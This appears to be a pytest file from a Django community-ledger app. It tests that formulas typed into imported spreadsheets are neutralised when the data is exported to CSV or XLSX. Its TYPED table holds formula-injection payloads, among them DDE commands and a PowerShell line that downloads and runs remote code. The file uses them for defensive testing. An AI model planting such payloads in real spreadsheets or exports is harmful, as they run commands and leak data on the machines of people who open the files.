"""Formulas that come in by a workbook go out as text, and come in again as what was typed.

G-34 of docs/reliability.md. A normal run sends one ledger,
`--full` all of them. A file with a NUL is refused as no table.
"""

import csv
import io

import openpyxl
import pytest
import xlsxwriter
from django.contrib.admin import site

from accounts.roles import Role
from core import exports as tables
from core.formulas import restore
from core.ledger.entries import Fate
from core.ledger.writing import undo
from core.office import exports
from party.imports import CheckInLedger, PartnerLedger, PartyOrganisationLedger
from party.models import MemberCheckIn, Partner, PartyOrganisation
from places.imports import CommunityLedger, CompoundLedger, FacilityLedger, UnitLedger
from places.models import Community, Compound, Facility, Unit
from tests import factories as make
from tests.core.test_formulas import FORMULAS
from tests.imports.messy import Office, text
from tests.imports.test_messy_governance import SAMPLES, Sample
from volunteers.imports import ActivityLedger, RosterLedger, TeamLedger
from volunteers.models import Activity, Team, Volunteer

pytestmark = [pytest.mark.django_db, pytest.mark.once]

TYPED = {
    **{name: text for name, text in FORMULAS.items() if text != "-" and "\0" not in text},
    "DDE": "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "DDE of the shell": "+cmd|'/C powershell IEX(wget 0r.pe/p)'!A1",
    "sum over cells": "@SUM(1+9)*cmd|' /C calc'!A0",
    "minus and a command": "-2+3+cmd|' /C calc'!D2",
    "a name for a sheet": "=INDIRECT(\"'台账'!A1\")",
    "web query": '=WEBSERVICE("http://x/?"&A1)',
    "two guards": "''=1+1",
    "blank and full width": "　＝1+1",
}  # fmt: skip
MORE = {
    "communities": Sample(
        CommunityLedger, Community, "社区名称|办公地址", "东园社区|清水路1号", {}
    ),
    "compounds": Sample(
        CompoundLedger, Compound, "小区名称|所属社区|地址", "柳园|清水|柳路1号", {}
    ),
    "facilities": Sample(
        FacilityLedger,
        Facility,
        "场所名称|场所类型|所属社区|地址|窗口|怎么去",
        "清水中心|党群服务阵地|清水|清水路1号|1号窗|坐1路",
        {},
    ),
    "units": Sample(UnitLedger, Unit, "单位名称|单位性质|地址", "清水小学|学校|清水路1号", {}),
    "teams": Sample(TeamLedger, Team, "志愿服务队名称|所属社区|类别", "清水先锋队|清水|党员", {}),
    "volunteers": Sample(
        RosterLedger,
        Volunteer,
        "姓名|手机号|所在队伍|特长",
        "李示范|13800000001|甲队|理发",
        {},
    ),
    "activities": Sample(
        ActivityLedger,
        Activity,
        "活动名称|活动日期|活动地点|参加人数|活动类型|谁组织的|组织单位|活动情况|解决的问题",
        "清扫家园|2022-06-01|清水苑|35|走访|社区自办|清水|扫了|修好路灯",
        {},
    ),
    "party-organisations": Sample(
        PartyOrganisationLedger,
        PartyOrganisation,
        "党组织名称|代码|类型|层级|上级党组织",
        "清河街道党工委|Q001|党工委|街道|",
        {},
    ),
    "check-ins": Sample(
        CheckInLedger,
        MemberCheckIn,
        "姓名|手机号|所在单位|社区|报到日期|特长|意向岗位",
        "王示范|13800000002|区外单位|清水社区|2022-03-02|理发|护学岗",
        {},
    ),
    "partners": Sample(PartnerLedger, Partner, "名称|类别", "示范大学|高校", {}),
}
EVERY = {**SAMPLES, **MORE}
del EVERY["red-armbands"]  # nothing but names, numbers and choices
ORDINARY = "livelihood"


@pytest.fixture
def office():
    street = make.make_street(name="滨河街道", code="330106007")
    clear = make.make_community(street=street, name="清水社区", code="330106007001")
    make.make_compound(community=clear, name="清水苑小区")
    make.make_team(community=clear, name="甲队")
    return Office(street, make.make_user(Role.STREET_STAFF, street=street))


def typed(head, row):
    """Return a workbook whose cells are texts, whatever they begin with."""
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"in_memory": True})
    sheet = book.add_worksheet("台账")
    for place, (label, cell) in enumerate(zip(head, row, strict=True)):
        sheet.write_string(0, place, label)
        sheet.write_string(1, place, cell)
    book.close()
    return stream.getvalue()


def open_to_any_text(office, sample):
    """Return the columns that take a formula as text; the others say in a sentence why not."""
    head, row = sample.head.split("|"), sample.row.split("|")
    taken = []
    for place, label in enumerate(head):
        office.check(sample.ledger, typed(head, [*row[:place], "=1+1", *row[place + 1 :]]))
        if not office.errors:
            taken.append(label)
    return taken


def exported(sample, form):
    """Return (content, the row under its header) of what the ledger hands out."""
    ledger = site._registry[sample.model]
    newest = sample.model.objects.order_by("-pk")[:1].values("pk")
    chosen = exports.Selection(sample.model.objects.filter(pk__in=newest), "全部")
    rows = exports.values_of(ledger, chosen)
    with exports.write_file(
        ledger, rows, file_format=form, plain=True, note="导出人：张示范"
    ) as file:
        content = file.read()
    if form == "csv":
        lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        return content, dict(zip(lines[0], lines[1], strict=False))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [list(line) for line in sheet.iter_rows(min_row=2, max_row=3)]
    assert all(cell.data_type != "f" and cell.hyperlink is None for line in cells for cell in line)
    return content, {label.value: str(cell.value or "") for label, cell in zip(*cells, strict=True)}


def runs(cell):
    """Tell whether a spreadsheet would run a cell of text."""
    bare = cell.lstrip(" \t\r\n\u3000\u200b\ufeff\x00")
    return (cell[:1] in "\t\r" and bool(cell)) or bare[:1] in tuple("=+-@＝＋－＠﹦")


@pytest.mark.parametrize("form", ["xlsx", "csv"])
@pytest.mark.parametrize(
    "key", [pytest.param(key, marks=() if key == ORDINARY else pytest.mark.full) for key in EVERY]
)
def test_a_formula_comes_in_goes_out_as_text_and_comes_in_unchanged(office, key, form, request):
    sample = EVERY[key]
    head, row = sample.head.split("|"), sample.row.split("|")
    taken = open_to_any_text(office, sample)
    assert taken, "this ledger has no free text: leave it out"
    every = TYPED.items() if request.config.getoption("--full") else list(TYPED.items())[::9]
    for name, formula in every:
        cells = [formula if label in taken else cell for label, cell in zip(head, row, strict=True)]
        content = typed(head, cells) if form == "xlsx" else text([head, cells])
        office.check(sample.ledger, content)
        if office.errors:
            continue  # what no field takes (a NUL, a blank) is said
        office.load(sample.ledger, content)
        batch, (content, out) = office.batch, exported(sample, form)

        assert not [cell for cell in out.values() if runs(cell)], name
        back = [restore(out.get(label, "")) for label in taken if label in out]
        assert not [cell for cell in back if cell.startswith("''=") and name != "two guards"], name
        again = [out.get(label, "") or cell for label, cell in zip(head, cells, strict=True)]
        plan = office.check(sample.ledger, typed(head, again))
        assert office.errors == [], name
        assert (plan.total(Fate.NEW), plan.total(Fate.CHANGED)) == (0, 0), name
        undo(batch)


def test_a_ledger_without_the_guard_would_be_noticed(office, monkeypatch):
    """Negative control: the same cell goes out as it came in."""
    sample = EVERY[ORDINARY]
    head, row = sample.head.split("|"), sample.row.split("|")
    row[-1] = TYPED["command"]
    office.load(sample.ledger, typed(head, row))
    assert not [cell for cell in exported(sample, "csv")[1].values() if runs(cell)]

    monkeypatch.setattr(tables, "neutralise", lambda cell: cell)

    assert [cell for cell in exported(sample, "csv")[1].values() if runs(cell)]
